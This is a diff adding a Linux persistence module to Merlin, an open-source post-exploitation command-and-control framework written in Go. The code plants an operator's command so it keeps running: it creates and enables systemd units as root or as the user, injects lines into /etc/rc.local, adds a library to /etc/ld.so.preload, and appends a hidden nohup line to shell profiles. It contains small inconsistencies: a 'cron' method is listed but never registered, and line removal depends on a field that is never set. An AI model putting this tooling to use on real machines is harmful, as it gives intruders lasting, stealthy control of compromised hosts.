@@ -0,0 +1,238 @@
+//go:build linux
+// +build linux
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package persistence
+
+import (
+	// Standard
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+)
+
+// Preferred is the order persistence methods are automatically selected in
+var Preferred = []string{"systemd", "rclocal", "systemd-user", "profile", "cron"}
+
+func init() {
+	register("systemd", systemd{system: true})
+	register("systemd-user", systemd{system: false})
+	register("rclocal", lineFile{path: "/etc/rc.local", description: "line in /etc/rc.local, runs as root when the host starts"})
+	register("ldpreload", lineFile{path: "/etc/ld.so.preload", description: "shared library path in /etc/ld.so.preload, loaded into every dynamically linked process"})
+	register("profile", profile{})
+}
+
+// systemd persists with a service unit that is enabled for the system or the current user
+type systemd struct {
+	system bool
+}
+
+// Description explains where the method persists and when the command runs
+func (s systemd) Description() string {
+	if s.system {
+		return "/etc/systemd/system service unit, runs as root when the host starts"
+	}
+	return "~/.config/systemd/user service unit, runs when the user's systemd instance starts"
+}
+
+// Privileged is true if the method requires root
+func (s systemd) Privileged() bool {
+	return s.system
+}
+
+// Available is true if the host was booted with systemd
+func (s systemd) Available() bool {
+	_, err := os.Stat("/run/systemd/system")
+	return err == nil
+}
+
+// Install writes and enables the service unit with the name as its unit name
+func (s systemd) Install(name, command string) (Record, error) {
+	dir := "/etc/systemd/system"
+	target := "multi-user.target"
+	if !s.system {
+		home, err := os.UserHomeDir()
+		if err != nil {
+			return Record{}, err
+		}
+		dir = filepath.Join(home, ".config", "systemd", "user")
+		target = "default.target"
+	}
+	path := filepath.Join(dir, name+".service")
+	if _, err := os.Stat(path); err == nil {
+		return Record{}, fmt.Errorf("%s already exists", path)
+	}
+	unit := fmt.Sprintf("[Unit]\nDescription=%s\n\n[Service]\nType=simple\nExecStart=%s\nRestart=on-failure\nRestartSec=60\n\n[Install]\nWantedBy=%s\n", name, command, target)
+
+	err := os.MkdirAll(dir, 0755)
+	if err != nil {
+		return Record{}, err
+	}
+	// #nosec G306 -- systemd requires the unit to be readable
+	err = os.WriteFile(path, []byte(unit), 0644)
+	if err != nil {
+		return Record{}, err
+	}
+	if err = s.systemctl("daemon-reload"); err != nil {
+		return Record{Artifact: path}, err
+	}
+	return Record{Artifact: path}, s.systemctl("enable", name+".service")
+}
+
+// Remove disables and deletes the service unit
+func (s systemd) Remove(record Record) error {
+	// The unit is deleted even if it was already disabled
+	_ = s.systemctl("disable", filepath.Base(record.Artifact))
+	err := os.Remove(record.Artifact)
+	if err != nil {
+		return err
+	}
+	return s.systemctl("daemon-reload")
+}
+
+// systemctl runs systemctl for the system or the current user's instance
+func (s systemd) systemctl(args ...string) error {
+	if !s.system {
+		args = append([]string{"--user"}, args...)
+	}
+	out, err := exec.Command("systemctl", args...).CombinedOutput() // #nosec G204
+	if err != nil {
+		return fmt.Errorf("there was an error running systemctl %s: %s %s", strings.Join(args, " "), err, out)
+	}
+	return nil
+}
+
+// lineFile persists by adding the command as a line to a root owned file
+type lineFile struct {
+	path        string
+	description string
+}
+
+// Description explains where the method persists and when the command runs
+func (l lineFile) Description() string {
+	return l.description
+}
+
+// Privileged is true if the method requires root
+func (l lineFile) Privileged() bool {
+	return true
+}
+
+// Install adds the command as a line to the file
+func (l lineFile) Install(name, command string) (Record, error) {
+	if l.path == "/etc/ld.so.preload" {
+		if _, err := os.Stat(command); err != nil {
+			return Record{}, fmt.Errorf("the ldpreload method requires the path to an existing shared library: %s", err)
+		}
+	}
+	return Record{Artifact: l.path}, addLine(l.path, command)
+}
+
+// Remove deletes the command's line from the file
+func (l lineFile) Remove(record Record) error {
+	return removeLine(record.Artifact, record.Command)
+}
+
+// profile persists by starting the command in the background from the current user's shell profile
+type profile struct{}
+
+// Description explains where the method persists and when the command runs
+func (profile) Description() string {
+	return "background command in the current user's ~/.bashrc, or ~/.profile if there is no ~/.bashrc, runs when the user opens a shell"
+}
+
+// Privileged is true if the method requires root
+func (profile) Privileged() bool {
+	return false
+}
+
+// Install adds the background command line to the shell profile
+func (profile) Install(name, command string) (Record, error) {
+	home, err := os.UserHomeDir()
+	if err != nil {
+		return Record{}, err
+	}
+	path := filepath.Join(home, ".bashrc")
+	if _, err = os.Stat(path); err != nil {
+		path = filepath.Join(home, ".profile")
+	}
+	return Record{Artifact: path}, addLine(path, profileLine(name, command))
+}
+
+// Remove deletes the background command line from the shell profile
+func (profile) Remove(record Record) error {
+	return removeLine(record.Artifact, profileLine(record.Name, record.Command))
+}
+
+// profileLine returns the shell profile line that starts the command in the background
+func profileLine(name, command string) string {
+	return fmt.Sprintf("(nohup %s >/dev/null 2>&1 &) # %s", command, name)
+}
+
+// addLine appends the line to the file, rc.local files are created as a script and the line is added before the final exit
+func addLine(path, line string) error {
+	data, err := os.ReadFile(path) // #nosec G304
+	if err != nil && !os.IsNotExist(err) {
+		return err
+	}
+	content := string(data)
+	if path == "/etc/rc.local" {
+		if content == "" {
+			content = "#!/bin/sh -e\n\nexit 0\n"
+		}
+		if i := strings.LastIndex(content, "\nexit 0"); i >= 0 {
+			content = content[:i+1] + line + "\n" + content[i+1:]
+		} else {
+			content = strings.TrimSuffix(content, "\n") + "\n" + line + "\n"
+		}
+	} else if content != "" {
+		content = strings.TrimSuffix(content, "\n") + "\n" + line + "\n"
+	} else {
+		content = line + "\n"
+	}
+
+	mode := os.FileMode(0644)
+	if info, err := os.Stat(path); err == nil {
+		mode = info.Mode()
+	} else if path == "/etc/rc.local" {
+		mode = 0755
+	}
+	return os.WriteFile(path, []byte(content), mode)
+}
+
+// removeLine deletes every line in the file that matches the line
+func removeLine(path, line string) error {
+	info, err := os.Stat(path)
+	if err != nil {
+		return err
+	}
+	data, err := os.ReadFile(path) // #nosec G304
+	if err != nil {
+		return err
+	}
+	var kept []string
+	for _, l := range strings.SplitAfter(string(data), "\n") {
+		if strings.TrimRight(l, "\n") != line {
+			kept = append(kept, l)
+		}
+	}
+	return os.WriteFile(path, []byte(strings.Join(kept, "")), info.Mode())
+}